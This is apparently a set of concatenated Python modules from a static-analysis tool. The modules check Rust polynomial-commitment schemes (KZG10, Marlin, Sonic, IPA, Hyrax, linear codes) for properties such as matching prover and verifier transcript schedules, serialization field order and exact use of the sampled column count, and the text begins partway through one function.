                            [b.id], b.self_adt, "R1p", item_types=None)
            nl += a
            nc += c_
    rep.count("R1p loops", nl)
    if nl < 1:
        rep.add("R1p", "per-item-fresh:floor", False, "no parameter-driven loop found in trim / prepare (counted 4; floor 1; fail closed)", None)
    # R17 on the trims (shared with C04): what `trim` de-duplicates has been sorted, so the keys hold each enforced bound
    # once, and the per-bound tables that are binary-searched later are sorted where they are built
    from ..rules import sorted as R17
    trim_scope = set()
    for b in f.bodies.values():
        if b.kind != "Closure" and b.name == "trim" and b.span:
            trim_scope |= f.closure([b.id], b.self_adt)
    rep.count("R17 dedup sites", R17.run_dedup(rep, ctx, trim_scope, "R17"))
    own = set(f.bodies) - f.closure([x.id for x in f.bodies.values() if x.kind != "Closure" and x.name == "evaluate_query_set" and not x.self_adt and not x.in_trait], None)
    R17.run(rep, ctx, own, "R17")
    # purity of trim
    trims = [("%s.trim" % sk, f.find1("trim", self_adt=S[sk]["adt"], trait=PC), S[sk]["adt"]) for sk in S]
    trims.append(("multilinear.trim", f.find1("trim", self_adt=ML, trait=""), None))
    for key, b, adt in trims:
        if b is None:
            rep.add("R2", "%s:anchor" % key, False, "%s not found (fail closed)" % key, None)
            continue
        g = Graph(f, f.closure([b.id], adt), [b.id], adt)
        draws = RNG.draw_sites(f, g.scope, adt)
        rep.add("R2", "%s:no-draw" % key, not draws,
                "no randomness is drawn in trim" if not draws else "randomness is drawn at %s inside trim" % draws[0][2]["span"],
                draws[0][2]["span"] if draws else b.span)
        fresh = fresh_generator_calls(f, g)
        rep.add("R2", "%s:no-fresh-generator" % key, not fresh,
                "no call produces a group element that does not come from the parameters" if not fresh else
                "trim calls %s at %s: a key element that is not taken from the universal parameters" % (fresh[0][2].get("callee"), fresh[0][2]["span"]),
                fresh[0][2]["span"] if fresh else b.span)
    # positive controls for the two zero-expectation detectors
    b = f.find1("setup", self_adt=K, trait="")
    if b is None:
        rep.add("R2", "control:anchor", False, "KZG10::setup not found (positive control; fail closed)", None)
    else:
        g = Graph(f, f.closure([b.id], None), [b.id], None)
        d = RNG.draw_sites(f, g.scope, None)
        fr = fresh_generator_calls(f, g)
        rep.add("R2", "control:draw-detector", bool(d), "positive control: %d draw site(s) found in KZG10::setup" % len(d), b.span)
        rep.add("R2", "control:generator-detector", bool(fr), "positive control: %d fresh-generator call(s) found in KZG10::setup" % len(fr), b.span)
    # all generators of the IPA parameters come out of ONE call of the derivation helper: `sample_generators(n)` is a
    # function of n alone, so the outputs of two calls share a prefix and generators would coincide
    b = f.find1("setup", self_adt=S["ipa"]["adt"], trait=PC)
    if b is None:
        rep.add("R2", "ipa.setup:anchor", False, "IPA setup not found (fail closed)", None)
    else:
        from ..rules.rng import cyclic_blocks
        sites = []
        scope = f.closure([b.id], S["ipa"]["adt"])
        for bid in sorted(scope):
            bb = f.bodies[bid]
            cyc = cyclic_blocks(bb)
            for i, t in bb.calls():
                if (t.get("callee") or "").endswith("::sample_generators"):
                    sites.append((t["span"], i in cyc or bb.kind == "Closure"))
        ok = len(sites) == 1 and not sites[0][1]
        rep.add("R2", "ipa.setup:one-generator-derivation", ok,
                "every generator of the parameters comes from the single call of sample_generators at %s" % sites[0][0] if ok else
                ("sample_generators is called %d times (or in a loop) in setup: it is a function of the count alone, so two calls "
                 "return overlapping generators" % len(sites)) if sites else "no call of sample_generators found in setup (fail closed)",
                sites[0][0] if sites else b.span)
    # refusals
    rows = []
    for sk in ("marlin_kzg10", "sonic_kzg10", "ipa", "marlin_pst13"):
        rows.append(("%s.trim" % sk, dict(name="trim", self_adt=S[sk]["adt"], trait=PC), S[sk]["adt"], ["TrimmingDegreeTooLarge"], [[1], [2]]))
    rows.append(("sonic_kzg10.trim#bounds", dict(name="trim", self_adt=S["sonic_kzg10"]["adt"], trait=PC), S["sonic_kzg10"]["adt"],
                 ["UnsupportedDegreeBound"], [[4], [2]]))
    L = S["linear_codes"]["adt"]
    rows.append(("linear_codes.setup", dict(name="setup", self_adt=L, trait=PC), L, ["InvalidParameters"], [[1, 2]]))
    rows.append(("linear_codes.trim", dict(name="trim", self_adt=L, trait=PC), L, ["InvalidParameters"], [[1]]))
    rows.append(("kzg10.setup", dict(name="setup", self_adt=K, trait=""), None, ["DegreeIsZero"], [[1]]))
    P13 = S["marlin_pst13"]["adt"]
    rows.append(("marlin_pst13.setup", dict(name="setup", self_adt=P13, trait=PC), P13, ["InvalidNumberOfVariables", "DegreeIsZero"], [[1, 2]]))
    H = S["hyrax"]["adt"]
    rows.append(("hyrax.setup", dict(name="setup", self_adt=H, trait=PC), H, ["InvalidNumberOfVariables"], [[1, 2]]))
    for key, find, adt, variants, req in rows:
        b = f.find1(**find)
        if b is None:
            rep.add("R5", "%s:anchor" % key, False, "%s not found (fail closed)" % key, None)
            continue
        R5.check_row(rep, ctx, "R5", key, b, adt, variants, req)
    # R5p: the enforced-bounds list comes unsorted from the caller: no admission on one position of it
    for sk in ("marlin_kzg10", "sonic_kzg10"):
        b = f.find1("trim", self_adt=S[sk]["adt"], trait=PC)
        if b is not None:
            R5.check_not_positional(rep, ctx, "R5p", "%s.trim" % sk, b, S[sk]["adt"], T.ROLES["trim"]["enforced_degree_bounds"],
                                    "enforced degree bounds")
            R5.check_unfiltered(rep, ctx, "R5f", "%s.trim" % sk, b, S[sk]["adt"], T.ROLES["trim"]["enforced_degree_bounds"],
                                "enforced degree bounds")
    for key, find, req in (("multilinear.setup", dict(name="setup", self_adt=ML, trait=""), [1]),
                           ("multilinear.trim", dict(name="trim", self_adt=ML, trait=""), [1, 2])):
        b = f.find1(**find)
        if b is None:
            rep.add("R5", "%s:anchor" % key, False, "%s not found (fail closed)" % key, None)
            continue
        g = Graph(f, f.closure([b.id], None), [], None)
        g.reach([(b.id, i) for i in req if i <= b.arg_count], want=OUTCOME)
        ok = g.last_goal is not None
        rep.add("R5", "%s:aborts-on-request" % key, ok, "an aborting assertion depends on the request parameters" if ok else
                "no aborting branch depends on the request parameters", b.span)


def fresh_generator_calls(f, g):
    out = []
    for bid in sorted(g.scope):
        for i, t in f.bodies[bid].calls():
            if f.call_targets(t, g.ctx_adt):
                continue
            c = t.get("callee") or ""
            if c.rsplit("::", 1)[-1] in FRESH_GENERATORS and (t.get("callee_trait") or "").startswith(("ark_ec", "ark_std", "ark_ff", "ark_poly")):
                out.append((bid, i, t))
    return out


_run_c09 = run


def run(rep, ctx, tier):
    _run_c09(rep, ctx, tier)
    # R18 over everything the setups and trims call: generators, powers and bounds are handed around as same-typed
    # arguments (usize, group elements), which the type system cannot tell apart
    from ..rules import argswap
    f = ctx.facts
    roots = [b.id for b in f.bodies.values() if b.kind != "Closure" and b.name in ("setup", "trim")]
    scope = sorted(f.closure(roots, None)) if roots else []
    judged, out = argswap.swapped(f, scope)
    rep.count("R18 calls judged", judged)
    seen = set()
    for (bid, t, i, j, names, callee) in out:
        key = "crosswise:%s->%s:%s/%s" % (f.bodies[bid].name, callee.rsplit("::", 1)[-1], names[2], names[3])
        if key in seen:
            continue
        seen.add(key)
        rep.add("R18", key, False, "call of `%s` at %s passes `%s` for parameter `%s` and `%s` for parameter `%s` (same type, each "
                "argument carries the other parameter's name): the key is built from the wrong quantities" % (
                    callee.rsplit("::", 1)[-1], t.get("span"), names[0], names[2], names[1], names[3]), t.get("span"))
    if not out:
        rep.add("R18", "setup-trim:no-crosswise-arguments", bool(roots), "no two same-typed arguments are passed crosswise by name in "
                "the %d calls judged under %d setup / trim entry points" % (judged, len(roots)) if roots else
                "no setup / trim entry point found (fail closed)", None)
