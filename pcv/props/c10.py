"""C10: every component the verification relation mentions is live in the verifier (challenges held fixed)."""
from .. import tables as T
from ..rules import influence as R1
from ..rules import verdict as R3
from ..rules import everyiter as R1D
from ..rules import fsbind as RFS

CONFIGS_QUICK = ["default"]
CONFIGS_THOROUGH = ["default", "nopar", "r1cs"]

EXPLANATION = (
    "Static may-influence analysis (R1) on the MIR of each verifier and its callees, with the transcript cut: "
    "absorbing into the sponge does not count as influence, so a component must reach the decision through the "
    "verification equation itself and not merely by changing the Fiat-Shamir challenges. Sources are every "
    "statement part (values, point, commitment fields), every proof field, every verifier-key field the relation "
    "mentions, and every challenge squeezed from the transcript. R1L: no value that a verifier loop computes per "
    "element (a looked-up shift power, say) is overwritten unused and then used after the loop, where only the last "
    "element's value would take part in the relation. R1m / R1v (shared with C04): the degree bound is matched for "
    "equality against the key's table of enforced bounds and its presence is tied to the presence of the shifted "
    "commitment. RFS (IPA): every group element of the proof that the relation multiplies by a hash-derived "
    "challenge is an input of that challenge's derivation. Plus R3: every sub-verdict (Result<bool>/bool of "
    "a nested verifier or of Merkle path verification) is consumed. A missing path proves the component is dead in "
    "the decision, i.e. replacing it leaves acceptance unchanged while the reference relation changes.")
EXPLANATION += (" Shared rules: R4a (proof-vs-claims zips are length-guarded), the every-path form of R1m on the listed component pairs, R4s (no positional pairing after an element-dropping adaptor on one side).")
RULE = ("instances = verifier anchors x {values, point, commitment fields, proof fields, key fields, key accessor "
        "results, squeeze results} in sponge-cut mode, plus one instance per verdict call site; holds iff OUTCOME is "
        "reachable; non-trivial = source present")

SQUEEZES = ["squeeze_field_elements_with_sizes", "squeeze_field_elements", "squeeze_bytes", "squeeze_bits",
            "squeeze_native_field_elements", "squeeze_native_field_elements_with_sizes"]


def run(rep, ctx, tier):
    missing = []
    anchors = ctx.verifier_anchors(missing)
    for k in missing:
        rep.add("R1", "%s:anchor" % k, False, "verifier anchor %s not found in the crate (fail closed)" % k, None)
    rep.count("anchors[%s]" % ctx.cfg, len(anchors))
    for a in anchors:
        g = ctx.graph(a)
        rep.count("bodies_in_scope", len(g.scope))
        rep.count("edges", g.n_edges)
        comps = R1.statement_components(a) + R1.proof_components(a, ctx.facts) + R1.key_components(a)
        for sk, info in T.SCHEMES.items():
            if info is a.info:
                for callee in T.VK_CALLS.get(sk, []):
                    comps.append(("vkcall:%s" % callee.rsplit("::", 1)[-1], ("callres", callee)))
        # degree-bound parts of the commitment (the relation mentions them in the bound-enforcing schemes)
        db = a.info.get("degree_bound") if isinstance(a.info, dict) else None
        if db and a.method in ("check", "batch_check"):
            comps.append(("degree_bound", ("field", T.LC, "degree_bound", ["usize"])))
            if "shifted" in db:
                comps.append(("shifted_comm", ("field", db["shifted"][0], db["shifted"][1], db["shifted_payload"])))
        for name, comp in comps:
            ok, detail, where, n = R1.component(ctx, a, comp, cut_sponge=True)
            rep.add("R1", "%s:%s" % (a.key, name), ok, detail, where or a.body.span, nontrivial=n > 0)
        if db and a.method in ("check", "batch_check"):
            from .c04 import bound_table_rules
            bound_table_rules(rep, ctx, a, db)
        if a.info.get("adt") == "ipa_pc::InnerProductArgPC" and a.method in ("check", "batch_check"):
            # "with the same challenge derivation from the transcript": the prover messages the relation randomises
            # are inputs of that derivation
            RFS.run(rep, ctx, a, [(e[0], e[1], e[2] if len(e) > 2 else None) for e in a.info["proof"]
                                  if e[1] in ("l_vec", "r_vec", "hiding_comm")], "RFS")
        # challenges
        f = ctx.facts
        n_sq = 0
        for bid in sorted(g.scope):
            for i, t in f.bodies[bid].calls():
                c = t.get("callee") or ""
                if t.get("callee_trait") == T.SPONGE_TRAIT and c.rsplit("::", 1)[-1] in SQUEEZES:
                    n_sq += 1
                    # the squeezed elements themselves, not the length of the returned vector
                    starts = [("STATE", ("CALLRES", bid, i), ty) for ty in T.SCALARS + ["u8", "bool"]]
                    ok, p = R1.reach_from(ctx, g, starts, ctx.sponge_cut(g))
                    rep.add("R1", "%s:challenge@%s#%d" % (a.key, R1.short(bid), _ordinal(f, bid, i)), ok,
                            "challenge squeezed at %s %s" % (t["span"], "reaches the outcome" if ok else
                                                               "is never used in the decision"), t["span"])
        rep.count("squeeze_sites", n_sq)
        R3.run(rep, ctx, a, "R3")
        R3.run_option(rep, ctx, a, "R3")
        from ..rules import lenguard as R4
        R4.run_shifted_pairing(rep, ctx, a, "R4s")
        # the relation's comparisons hold for every element: a zip of the proof list with the claims is length-guarded
        # and the listed component pairs meet on every non-refusing path (shared with C03)
        R4.run_zip(rep, ctx, a, "R4a")
        from . import c03 as C03
        from ..rules import meet as R1M
        for name, sa, sb in C03.MEETS.get(a.key, []):
            if name not in C03.EVERY_PATH:
                continue
            A, B = C03.meet_starts(ctx, a, sa), C03.meet_starts(ctx, a, sb)
            if not A or not B:
                rep.add("R1m", "%s:meet:%s" % (a.key, name), False, "component not found in %s (fail closed)" % a.key, a.body.span)
                continue
            ok, detail, where = R1M.check(ctx, a, A, B)
            if ok:
                ok, detail, where2 = R1M.check_every_path(ctx, a, A, B)
                where = where2 or where
            rep.add("R1m", "%s:meet-on-every-path:%s" % (a.key, name), ok, "%s: %s" % (name, detail), where)
        rep.count("bodies_with_loops", R1D.run_last_value(rep, ctx, a, "R1L"))


def _ordinal(f, bid, bb):
    """position of this squeeze among the squeezes of its body (stable under unrelated edits)."""
    k = 0
    for i, t in f.bodies[bid].calls():
        c = t.get("callee") or ""
        if t.get("callee_trait") == T.SPONGE_TRAIT and c.rsplit("::", 1)[-1] in SQUEEZES:
            if i == bb:
                return k
            k += 1
    return -1


_run_base_r5f = run


def run(rep, ctx, tier):
    _run_base_r5f(rep, ctx, tier)
    # every transcript-sampled column index is checked (C13's R5f instance: the relation mentions every sampled position)
    from .c13 import sampled_indices_unfiltered
    sampled_indices_unfiltered(rep, ctx)
