"""C11: prover and verifier run the same transcript schedule."""
from .. import tables as T
from ..rules import schedule as R7
from ..rules import influence as R1
from ..rules import reachdef as R1A
from ..rules.serde import walk

CONFIGS_QUICK = ["default"]
CONFIGS_THOROUGH = ["default", "nopar", "r1cs"]

EXPLANATION = (
    "Static comparison (R7) of the transcript schedules of each prover / verifier pair: (open, check), (batch_open, "
    "batch_check), (open_combinations, check_combinations) for the six trait schemes, with trait defaults dispatched to "
    "the scheme under analysis. A schedule is the tree of sponge operations extracted from the compiler's resolved HIR "
    "(loops, branches, closures kept; helpers that receive the sponge inlined); absorbed operands and squeeze sizes are "
    "classified by provenance on the MIR: the proof / commitment field or parameter role the value is read from "
    "(verifier) or stored into (prover). The two trees must be equal. If one side squeezes or absorbs something the "
    "other does not, in another order, under a different guard, or keyed to a different proof field, the two sponges "
    "diverge for the inputs taking that path, and either the honest proof is rejected or the end states differ. Plus "
    "R1: the sponge parameter can influence every verifier's outcome (a proof is bound to the transcript it was made "
    "for); R1all: a variable that holds a squeezed challenge on some path holds one at every use (a combiner "
    "initialised with a constant and only later overwritten by a challenge leaves the first element unbound); R1ret: a "
    "helper that is handed the sponge and returns transcript-derived values does so on every non-refusing return; R5w: "
    "the vector of polynomials a batch prover hands to `open` is filled under an innermost walk over a container derived "
    "from the query set (the group's label set, whose order the verifier uses), not over the caller's list; R7c: "
    "every absorb / squeeze acts on (a reborrow of) the sponge the entry point was handed, never on a copy. Equality of sponge *states* needs the sponge's semantics and is not decided; longer histories follow by "
    "composition.")
RULE = ("instances = 18 (scheme, operation) pairs x tree equality + verifier anchors x sponge liveness; floor: at least "
        "30 sponge operations classified")

PC = T.PC
PAIRS = [("open", "check"), ("batch_open", "batch_check"), ("open_combinations", "check_combinations")]
COMMITMENT_ADTS = ["data_structures::LabeledCommitment", "kzg10::data_structures::Commitment",
                   "marlin::marlin_pc::data_structures::Commitment", "ipa_pc::data_structures::Commitment",
                   "hyrax::data_structures::HyraxCommitment", "linear_codes::data_structures::LinCodePCCommitment",
                   "linear_codes::data_structures::Metadata"]
KEY_ADTS = ["hyrax::data_structures::HyraxUniversalParams", "ipa_pc::data_structures::CommitterKey",
            "kzg10::data_structures::VerifierKey", "marlin::marlin_pc::data_structures::VerifierKey",
            "marlin::marlin_pc::data_structures::CommitterKey", "sonic_pc::data_structures::VerifierKey",
            "sonic_pc::data_structures::CommitterKey", "marlin::marlin_pst13_pc::data_structures::VerifierKey",
            "marlin::marlin_pst13_pc::data_structures::CommitterKey", "linear_codes::data_structures::LigeroPCParams",
            "linear_codes::data_structures::BrakedownPCParams"]


def proof_adts(info):
    s = {e[0] for e in info["proof"]}
    s.add("data_structures::BatchLCProof")
    return s


def find_method(f, adt, m):
    b = f.find1(m, self_adt=adt, trait=PC)
    if b is None:
        b = f.find1(m, in_trait=PC)
    return b


def pst13_has_no_degree_bounds(f):
    """E2 discharge: every LabeledCommitment::new in MarlinPST13::commit passes the constant None as degree bound."""
    adt = T.SCHEMES["marlin_pst13"]["adt"]
    b = f.find1("commit", self_adt=adt, trait=PC)
    if b is None or b.id not in f.hir:
        return False
    calls = [n for n in walk(f.hir[b.id]["body"]) if n.get("k") == "call" and (n.get("def") or "").endswith("LabeledCommitment::<C>::new")]
    if not calls:
        return False
    for c in calls:
        a = c["args"][2] if len(c.get("args", [])) > 2 else None
        if not (a and a.get("k") == "path" and ((a.get("def") or "").endswith("::None") or a.get("def") == "None")):
            return False
    return True


def drop_guarded(items, guard_name):
    """remove branches guarded (only) by `guard_name`."""
    out = []
    for it in items:
        if it[0] == "branch" and guard_name in it[1]:
            continue
        if it[0] == "loop":
            out.append(("loop", drop_guarded(it[1], guard_name)))
        elif it[0] == "branch":
            out.append(("branch", it[1]) + tuple(drop_guarded(a, guard_name) for a in it[2:]))
        else:
            out.append(it)
    return tuple(out)


def run(rep, ctx, tier):
    f = ctx.facts
    total_ops = 0
    for sk, info in T.SCHEMES.items():
        adt = info["adt"]
        for pm, vm in PAIRS:
            pb, vb = find_method(f, adt, pm), find_method(f, adt, vm)
            key = "%s:%s/%s" % (sk, pm, vm)
            if pb is None or vb is None or pb.id not in f.hir or vb.id not in f.hir:
                rep.add("R7", key, False, "prover or verifier method not found (fail closed)", None)
                continue
            pe = R7.Extractor(ctx, adt, pb, T.ROLES[pm], proof_adts(info), COMMITMENT_ADTS, KEY_ADTS)
            ve = R7.Extractor(ctx, adt, vb, T.ROLES[vm], proof_adts(info), COMMITMENT_ADTS, KEY_ADTS)
            ps = R7.normalise(pe.schedule(f.hir[pb.id], 0, (pb.id,)))
            vs = R7.normalise(ve.schedule(f.hir[vb.id], 0, (vb.id,)))
            total_ops += pe.ops + ve.ops
            note = ""
            if ps != vs and sk == "marlin_pst13" and pst13_has_no_degree_bounds(f):
                # E2: the shared Marlin accumulator has a degree-bound branch that PST13 can never take
                vs2 = drop_guarded(vs, "degree-bound")
                ps2 = drop_guarded(ps, "degree-bound")
                if ps2 == vs2:
                    note = " (exception E2: the verifier's degree-bound branch is dead for PST13 - commit always passes None)"
                    ps, vs = ps2, vs2
            ok = ps == vs
            if ok:
                detail = "schedules agree (%d + %d sponge operations)%s: %s" % (pe.ops, ve.ops, note, " ; ".join(R7.fmt(ps))[:400])
            else:
                detail = "prover schedule [%s] differs from verifier schedule [%s]" % (" ; ".join(R7.fmt(ps))[:600], " ; ".join(R7.fmt(vs))[:600])
            rep.add("R7", key, ok, detail, vb.span, nontrivial=(pe.ops + ve.ops) > 0)
    # R5w: the polynomials of one query group are handed to `open` in the order of the group's label set (the order the
    # verifier uses), not in the order of the caller's list
    from ..rules import visited as R5V
    n_fills = 0
    seen_default = False
    for sk, info in T.SCHEMES.items():
        b = f.find1("batch_open", self_adt=info["adt"], trait=T.PC)
        src = "own"
        if b is None:
            if seen_default:
                continue
            b, src, seen_default = f.find1("batch_open", in_trait=T.PC), "default", True
        if b is None:
            rep.add("R5w", "%s.batch_open:anchor" % sk, False, "batch_open not found (fail closed)", None)
            continue
        n_fills += R5V.run_order(rep, ctx, ("%s.batch_open" % sk) if src == "own" else "default.batch_open", b,
                                 info["adt"] if src == "own" else None, T.ROLES["batch_open"]["query_set"], T.ROLES["open"]["polys"] - 1, "R5w")
    rep.count("R5w fills", n_fills)
    rep.count("sponge_operations_classified", total_ops)
    if total_ops < 30:
        rep.add("R7", "floor", False, "only %d sponge operations were found in all schedules (floor 30)" % total_ops, None)
    missing = []
    for a in ctx.verifier_anchors(missing):
        if "sponge" not in a.roles:
            continue
        g = ctx.graph(a)
        ok, p = R1.reach_from(ctx, g, [(a.body.id, a.roles["sponge"])])
        R1A.run(rep, ctx, a, "R1all")
        R1A.run_returns(rep, ctx, a, "R1ret")
        R1A.run_sponge_identity(rep, ctx, a, "R7c")
        rep.add("R1", "%s:sponge" % a.key, ok, "the transcript %s the verifier's outcome" % ("can influence" if ok else "cannot influence"), a.body.span)
