"""C12: field-table agreement of the hand-written serialization impls."""
from ..rules import serde as R8

CONFIGS_QUICK = ["default"]
CONFIGS_THOROUGH = ["default", "nopar", "r1cs"]

EXPLANATION = (
    "Static comparison, on the compiler's resolved HIR, of the hand-written CanonicalSerialize / CanonicalDeserialize "
    "impls of the six key types that do not use the derive (kzg10::{UniversalParams, Powers, VerifierKey}, "
    "sonic_pc::VerifierKey, marlin_pst13_pc::{UniversalParams, VerifierKey}). For each: the sequence of fields written "
    "by serialize_with_mode equals the sequence of fields the reads of deserialize_with_mode land in, with equal types; "
    "serialized_size sums exactly the written fields; every field that is rebuilt instead of read (prepared_h, "
    "prepared_beta_h, ...) is computed from its own companion; every read propagates its error. A swapped pair of "
    "same-typed fields, a field missing from the size, or prepared_beta_h rebuilt from h break round trip / size / "
    "decision equality for every value whose two fields differ. All other impls come from ark-serialize's derive "
    "(counted, trusted). Byte-level round trip and truncated-input errors are ark-serialize's behaviour and are not "
    "decided.")
RULE = "instances = 6 hand-written families x {order, types, size, rebuilt, read-errors} + inventory of derived impls"

FAMILIES = ["kzg10::data_structures::UniversalParams", "kzg10::data_structures::Powers",
            "kzg10::data_structures::VerifierKey", "sonic_pc::data_structures::VerifierKey",
            "marlin::marlin_pst13_pc::data_structures::UniversalParams",
            "marlin::marlin_pst13_pc::data_structures::VerifierKey"]


def run(rep, ctx, tier):
    f = ctx.facts
    for adt in FAMILIES:
        for ok, suffix, detail in R8.check_family(f, adt):
            span = f.adts.get(adt, {}).get("span")
            rep.add("R8", "%s:%s" % (adt, suffix), ok, detail, span)
    # inventory: which serializable types are hand-written, which derived
    hand = set()
    derived = set()
    for im in f.impls:
        if im.get("trait") == R8.SER and im.get("self_adt"):
            (derived if im.get("exp") else hand).add(im["self_adt"])
    rep.count("derived_serialize_impls", len(derived))
    rep.count("hand_written_serialize_impls", len(hand))
    extra = sorted(hand - set(FAMILIES))
    rep.add("R8", "inventory", not extra,
            "%d hand-written and %d derived CanonicalSerialize impls; every hand-written one is checked" % (len(hand), len(derived))
            if not extra else "hand-written CanonicalSerialize impl(s) not covered by the table: %s" % ", ".join(extra), None)
