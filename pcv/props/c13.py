"""C13: the number of opened columns is used exactly as computed, on both sides; indices come from the transcript."""
from .. import tables as T
from ..flow import Graph, OUTCOME
from ..engine import short
from ..rules import exact as R11
from ..rules import influence as R1

CONFIGS_QUICK = ["default"]
CONFIGS_THOROUGH = ["default", "nopar", "r1cs"]

EXPLANATION = (
    "Static exact-flow analysis (R11) over MIR of the linear-code prover (`open`) and verifier (`check`): the count "
    "handed to the index sampler is an unmodified copy of the result of the security-level computation "
    "(calculate_t) - no arithmetic in between - on both sides; the three arguments of that computation are unmodified "
    "copies of the key's sec_param(), distance() and of the extended column count (prover: the encoded matrix width; "
    "verifier: commitment.metadata.n_ext_cols), and the same column count is the sampler's modulus; inside the "
    "sampler every pushed index is a remainder whose divisor is an unmodified copy of that modulus and whose "
    "dividend depends on bytes squeezed from the transcript. A halved or capped t, a different modulus or an index "
    "that does not come from the sponge each break the column-opening clause for every input. The formula inside "
    "calculate_t (floating-point minimality) and linearity of the encodings are not decided.")
RULE = ("instances = {prover, verifier} x {t exact, sec_param / distance / width exact, modulus = width} + sampler x "
        "{index = squeeze-derived % modulus}")

PC = T.PC
CALC = "linear_codes::utils::calculate_t"
SAMPLER = "linear_codes::utils::get_indices_from_sponge"
INFO = "linear_codes::LinCodeParametersInfo::"
STOP = (CALC, INFO + "sec_param", INFO + "distance")


def calls_to(f, g, callee):
    out = []
    for bid in sorted(g.scope):
        for i, t in f.bodies[bid].calls():
            if (t.get("callee") or "") == callee:
                out.append((bid, i, t))
    return out


def arg_node(bid, t, j):
    a = t["args"][j]
    return (bid, a["pl"]["l"]) if a["k"] in ("copy", "move") else None


def callres_names(f, srcs):
    out = set()
    for s in srcs:
        if s[0] == "CALLRES":
            t = f.bodies[s[1]].blocks[s[2]]["term"]
            out.add(t.get("callee"))
        elif s[0] == "FIELD":
            out.add("%s.%s" % (s[1], s[2]))
    return out


def run(rep, ctx, tier):
    f = ctx.facts
    adt = T.SCHEMES["linear_codes"]["adt"]
    for side, m in (("prover", "open"), ("verifier", "check")):
        b = f.find1(m, self_adt=adt, trait=PC)
        if b is None:
            rep.add("R11", "%s:anchor" % side, False, "LinearCodePCS::%s not found (fail closed)" % m, None)
            continue
        g = Graph(f, f.closure([b.id], adt), [b.id], adt)
        samp = calls_to(f, g, SAMPLER)
        calc = calls_to(f, g, CALC)
        if not samp or not calc:
            rep.add("R11", "%s:sites" % side, False, "calls of calculate_t (%d) / get_indices_from_sponge (%d) not found in %s "
                    "(fail closed)" % (len(calc), len(samp), m), b.span)
            continue
        for k, (bid, i, t) in enumerate(samp):
            srcs, computed, _ = R11.origins(g, arg_node(bid, t, 1), stop=STOP)
            names = callres_names(f, srcs)
            ok = not computed and names == {CALC}
            rep.add("R11", "%s:t-exact#%d" % (side, k), ok,
                    "the count passed to the index sampler at %s is an unmodified copy of calculate_t's result" % t["span"] if ok else
                    "the count passed to the index sampler at %s is %s" % (t["span"],
                        "computed from other values (%s)" % (computed[0][1].op) if computed else "taken from %s" % sorted(names)), t["span"])
            wsrcs, wcomp, _ = R11.origins(g, arg_node(bid, t, 0), stop=STOP)
            rep.count("sampler_sites")
            width_s = callres_names(f, wsrcs)
        for k, (bid, i, t) in enumerate(calc):
            want = [INFO + "sec_param", INFO + "distance"]
            for j, w in enumerate(want):
                srcs, computed, _ = R11.origins(g, arg_node(bid, t, j), stop=STOP)
                names = callres_names(f, srcs)
                ok = not computed and names == {w}
                rep.add("R11", "%s:%s-exact#%d" % (side, w.rsplit("::", 1)[-1], k), ok,
                        "argument %d of calculate_t is the key's %s()" % (j, w.rsplit("::", 1)[-1]) if ok else
                        "argument %d of calculate_t at %s is %s, expected an unmodified %s()" % (
                            j, t["span"], "computed" if computed else sorted(names), w.rsplit("::", 1)[-1]), t["span"])
            srcs, computed, _ = R11.origins(g, arg_node(bid, t, 2), stop=STOP)
            names = callres_names(f, srcs)
            expect = {"linear_codes::data_structures::Metadata.n_ext_cols"} if side == "verifier" else {"utils::Matrix.m"}
            ok = not computed and names == expect
            rep.add("R11", "%s:codeword-length-exact#%d" % (side, k), ok,
                    "codeword length given to calculate_t is %s" % sorted(names) if ok else
                    "codeword length given to calculate_t at %s is %s, expected an unmodified %s" % (
                        t["span"], "computed" if computed else sorted(names), sorted(expect)), t["span"])
            # the sampler's modulus is the same width
            for k2, (sb, si, st) in enumerate(samp):
                s2, c2, _ = R11.origins(g, arg_node(sb, st, 0), stop=STOP)
                ok2 = not c2 and callres_names(f, s2) == expect
                rep.add("R11", "%s:modulus=width#%d" % (side, k2), ok2,
                        "the sampler's modulus is the same column count" if ok2 else
                        "the sampler's modulus at %s is %s, calculate_t was given %s" % (
                            st["span"], "computed" if c2 else sorted(callres_names(f, s2)), sorted(expect)), st["span"])
    calculate_t_params(rep, ctx)
    # inside the sampler
    sb = f.bodies.get(SAMPLER)
    if sb is None:
        rep.add("R11", "sampler:anchor", False, "get_indices_from_sponge not found (fail closed)", None)
        return
    g = Graph(f, f.closure([sb.id], None), [sb.id], None)
    rems = []
    for bid in sorted(g.scope):
        body = f.bodies[bid]
        for bi, blk in enumerate(body.blocks):
            for st in blk["stmts"]:
                rv = st["rv"]
                if rv.get("k") == "binop" and rv.get("op") == "Rem":
                    rems.append((bid, bi, st))
    good = 0
    detail = "no remainder operation found in the index sampler"
    for bid, bi, st in rems:
        ops = st["rv"]["ops"]
        if ops[1]["k"] not in ("copy", "move") or ops[0]["k"] not in ("copy", "move"):
            continue
        srcs, computed, seen = R11.origins(g, (bid, ops[1]["pl"]["l"]))
        modulus_ok = not computed and (sb.id, 1) in seen
        # dividend depends on squeezed bytes
        sq = [("CALLRES", b2, i2) for b2 in g.scope for i2, t2 in f.bodies[b2].calls()
              if (t2.get("callee") or "").endswith("CryptographicSponge::squeeze_bytes")]
        par = g.reach([("STATE", s, "u8") for s in sq], want=(bid, ops[0]["pl"]["l"]))
        dividend_ok = g.last_goal is not None
        # the remainder reaches the returned vector
        par = g.reach([(bid, st["dst"]["l"])], want=OUTCOME)
        returned = g.last_goal is not None
        if modulus_ok and dividend_ok and returned:
            good += 1
        else:
            detail = "remainder at line %s: modulus is the codeword length: %s, dividend from squeezed bytes: %s, result returned: %s" % (
                st.get("line"), modulus_ok, dividend_ok, returned)
    rep.add("R11", "sampler:index=squeeze%modulus", good >= 1,
            "every index is (bytes squeezed from the transcript) % codeword length" if good >= 1 else detail, sb.span)
    # the number of bytes squeezed per index is a function of the codeword length (the modulus), not of t
    from ..flow import DATA
    sites = [(b2, i2, t2) for b2 in sorted(g.scope) for i2, t2 in f.bodies[b2].calls()
             if (t2.get("callee") or "").endswith("CryptographicSponge::squeeze_bytes")]
    from_n = {s[0] for s in g.reach([(sb.id, 1)], kinds=(DATA,), typed=False)}
    from_t = {s[0] for s in g.reach([(sb.id, 2)], kinds=(DATA,), typed=False)}
    ok = bool(sites)
    why = "no squeeze_bytes call in the sampler"
    for (b2, i2, t2) in sites:
        a = t2["args"][1] if len(t2["args"]) > 1 else None
        if a is None or a["k"] not in ("copy", "move"):
            ok, why = False, "the byte count at %s is a constant" % t2["span"]
            continue
        node = (b2, a["pl"]["l"])
        if node not in from_n:
            ok, why = False, "the byte count squeezed at %s does not depend on the codeword length" % t2["span"]
        elif node in from_t:
